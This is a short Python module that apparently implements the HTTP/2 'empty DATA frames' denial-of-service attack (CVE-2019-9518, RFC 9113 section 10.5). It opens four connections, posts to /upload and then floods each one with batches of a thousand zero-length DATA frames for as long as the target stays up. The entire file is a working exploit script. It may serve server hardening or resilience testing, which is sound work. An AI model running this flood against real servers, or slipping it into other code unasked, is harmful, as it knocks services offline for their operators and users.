"""DATA frames of no bytes without end (RFC 9113, 10.5; CVE-2019-9518)."""

from wire.http2 import DATA, ask, frame, http2


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number)) as it:
            if it:
                await it.send(ask(1, b"POST", b"/upload"))
            while it and target.goes_on():
                await it.send(frame(DATA, 0, 1) * 1000)

    await target.lanes(4, lane)
